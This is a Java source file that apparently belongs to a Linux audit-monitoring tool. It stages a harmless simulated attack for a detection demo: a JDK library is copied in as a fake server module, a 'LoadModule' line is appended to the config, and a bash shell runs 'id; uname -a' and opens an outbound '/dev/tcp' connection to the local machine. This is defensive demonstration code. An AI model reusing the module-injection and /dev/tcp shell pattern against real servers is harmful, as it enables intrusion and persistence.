package io.graftwatch.packaging.demo;

import io.graftwatch.linux.live.BorrowedRules;
import io.graftwatch.linux.rules.Abi;
import io.graftwatch.linux.rules.AuditRules;
import java.io.IOException;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.jspecify.annotations.Nullable;

/// A harmless attack in the shape of a real one: a module is put beside a server and registered,
/// the server takes it in, a shell looks around and connects out. The module is a library of the
/// JDK, the server is the stand-in, and out is this machine's own address.
final class Attack implements AutoCloseable {
  private static final Duration STEP = Duration.ofSeconds(10);
  private static final String PREFIX = "gwdemo_";

  private final Stage stage;
  private final Child server;
  private final ServerSocket outside = new ServerSocket(0);
  private @Nullable BorrowedRules rules;

  /// Starts the stand-in server.
  Attack(Stage stage) throws IOException, InterruptedException {
    this.stage = stage;
    server =
        Child.start(
            "httpd",
            stage.root(),
            List.of(
                stage.server().toString(),
                "-Xmx16m",
                "-XX:TieredStopAtLevel=1",
                "-Djdk.lang.Process.launchMechanism=FORK",
                "-cp",
                System.getProperty("java.class.path"),
                StandIn.class.getName()));
    var _ = server.await("listening on ", STEP);
  }

  /// Asks the kernel to record what this server's children run, where they connect, and who writes
  /// into its folders: nothing else on this machine.
  ///
  /// @return why not, or null when it does
  @Nullable String audit() {
    Abi abi = Abi.of(System.getProperty("os.arch"));
    if (abi == null) {
      return "the kernel's audit calls of this processor are not known";
    }
    try {
      rules =
          BorrowedRules.load(
              AuditRules.narrow(
                  abi,
                  0,
                  Path.of("/bin/bash").toRealPath().toString(),
                  (int) server.pid(),
                  List.of(stage.httpd("modules").toString(), stage.httpd("conf").toString()),
                  PREFIX));
      return null;
    } catch (IOException e) {
      return e.getMessage();
    }
  }

  /// An administrator's shell copies the module and registers it.
  void place() throws IOException, InterruptedException {
    Path library = Path.of(System.getProperty("java.home"), "lib", "libextnet.so");
    if (!Files.exists(library)) {
      library = Path.of(System.getProperty("java.home"), "lib", "libnio.so");
    }
    var _ =
        Child.run(
            List.of(
                "/bin/sh",
                "-c",
                "cp \"$1\" \"$2\" && echo \"LoadModule graft_module modules/mod_graft.so\" >> \"$3\"",
                "install-module",
                library.toString(),
                stage.module().toString(),
                stage.config().toString()),
            stage.root(),
            null);
  }

  /// The server takes the module in.
  void load() throws IOException, InterruptedException {
    server.say("load " + stage.module());
    var _ = server.await("done load", STEP);
  }

  /// A shell of the server looks around and connects out. It stays for a while, so that what only
  /// looks now and then sees it too.
  void run(String address, Duration stays) throws IOException, InterruptedException {
    server.say(
        "run /bin/bash\t-c\tid; uname -a; exec 3<>/dev/tcp/"
            + address
            + "/"
            + outside.getLocalPort()
            + "; sleep "
            + stays.toSeconds());
    var _ = server.await("done run", STEP);
  }

  @Override
  public void close() throws IOException {
    server.close();
    outside.close();
    if (rules != null) {
      rules.close();
    }
  }
}
